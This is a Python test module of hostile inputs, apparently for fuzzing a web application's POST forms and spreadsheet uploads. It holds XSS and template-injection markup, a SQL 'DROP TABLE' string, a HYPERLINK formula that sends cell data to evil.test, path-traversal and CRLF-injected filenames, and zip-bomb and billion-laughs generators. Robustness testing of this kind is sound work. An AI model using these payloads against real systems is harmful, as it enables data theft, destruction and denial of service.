"""What hostile hands type, paste and upload."""

import io
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from xml.etree.ElementTree import Element

import html5lib

MARKUP = "\"'><img src=x onerror=alert(1)><script>alert(1)</script>{{7*7191}}"
EXECUTED = ("<img src=x onerror", "<script>alert(1)", "50337")
"""How a page looks in which some of it was not escaped, or was run as a template."""
WORDS = {
    "marks that turn the line around": "\u202egnihton\u202c\u200f \u2066Ada\u2069",
    "a nul": "Ada\x00Moreno",
    "ten thousand characters": "x" * 10_000,
    "markup": MARKUP,
    "a formula": '=HYPERLINK("http://evil.test?"&A1,"open")',
    "a statement": "'; DROP TABLE person; --",
    "half a character": "Ada \ud800 Moreno",
    "marks upon marks": "Z" + "\u0310\u0321" * 200,
    "other digits": "\u0661\u0662\u0663",
    "a number without an end": "9" * 400,
    "no number": "NaN",
    "a number that is too large": "9223372036854775808",
    "a day that is none": "2026-02-31",
    "nothing but space": "\u00a0\u2003\u200b\n\t",
    "a path": "../../../../etc/passwd",
}
BODIES = {
    "broken letters": ("application/x-www-form-urlencoded", b"name=%ff%fe&note=%ed%a0%80&%=%%&=&&"),
    "parts without an end": (
        "multipart/form-data; boundary=b",
        b"--b\r\nContent-Disposition: form",
    ),
    "parts without a boundary": ("multipart/form-data", b"--b--"),
    "another alphabet": ("application/x-www-form-urlencoded; charset=utf-7", b"name=+ADw-script"),
    "json": ("application/json", b'{"name": ' + b"[" * 5000),
    "an unknown kind": ("\xff/\xfe", b"\x00" * 100),
}
_TYPED = ("text", "search", "textarea", "email", "url", "password", "tel")


@dataclass(frozen=True)
class Form:
    """A form as it stands on a page: what would be sent, and which of it somebody types."""

    fields: dict[str, str]
    typed: tuple[str, ...]
    files: tuple[str, ...]

    def with_words(self, words: str) -> dict[str, str]:
        """As it stands, with these words wherever somebody may type."""
        return self.fields | dict.fromkeys(self.typed, words)

    def all_of(self, words: str) -> dict[str, str]:
        """These words in every field."""
        return dict.fromkeys([*self.fields, *self.typed, *self.files], words)


def forms_of(text: str) -> Iterator[tuple[str, Form]]:
    """The forms of a page that write, each with where it is sent; empty for the page itself."""
    root = html5lib.HTMLParser(namespaceHTMLElements=False).parse(text)
    for form in root.iter("form"):
        if form.get("method", "").lower() == "post":
            yield form.get("action", ""), _form(form)


def _form(form: Element) -> Form:
    fields, typed, files = {}, [], []
    for each in (*form.iter("input"), *form.iter("textarea"), *form.iter("button")):
        name = each.get("name")
        kind = "textarea" if each.tag == "textarea" else each.get("type", "text")
        if not name:
            continue
        if kind == "file":
            files.append(name)
        elif kind in _TYPED:
            typed.append(name)
        elif kind not in ("checkbox", "radio") or each.get("checked") is not None:
            fields[name] = each.get("value", "on")
    for each in form.iter("select"):
        options = list(each.iter("option"))
        chosen = [one for one in options if one.get("selected") is not None] or options[:1]
        if each.get("name") and chosen:
            fields[str(each.get("name"))] = chosen[0].get("value", "")
    return Form(fields, tuple(typed), tuple(files))


def zip_bomb() -> bytes:
    """A spreadsheet of a few kilobytes that unpacks to 60 MB of zeros."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as parcel:
        parcel.writestr("[Content_Types].xml", "<Types/>")
        parcel.writestr("xl/workbook.xml", bytes(60_000_000))
    return file.getvalue()


def laughing_sheet() -> bytes:
    """A spreadsheet whose names grow out of each other without an end."""
    lines = ['<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    laughing = f"<?xml version='1.0'?><!DOCTYPE x [{''.join(lines)}]><x>&a9;</x>"
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as parcel:
        for name in ("[Content_Types].xml", "xl/workbook.xml", "content.xml"):
            parcel.writestr(name, laughing)
    return file.getvalue()


UPLOADS = {
    "nothing": ("list.xlsx", b""),
    "no spreadsheet": ("list.xlsx", b"PK\x03\x04" + b"\xff" * 2000),
    "a line of nuls": ("list.csv", b"name\r\n\x00\x00\x00\r\n\xff\xfe\xfd\r\n"),
    "a long line": ("list.csv", b"name\r\n" + b"a" * 400_000),
    "a name with a path": ("../../../etc/cron.d/x\r\nX-Y: z.csv", b"name\r\nAda\r\n"),
}
BOMBS = {"a bomb": zip_bomb, "names that grow": laughing_sheet}
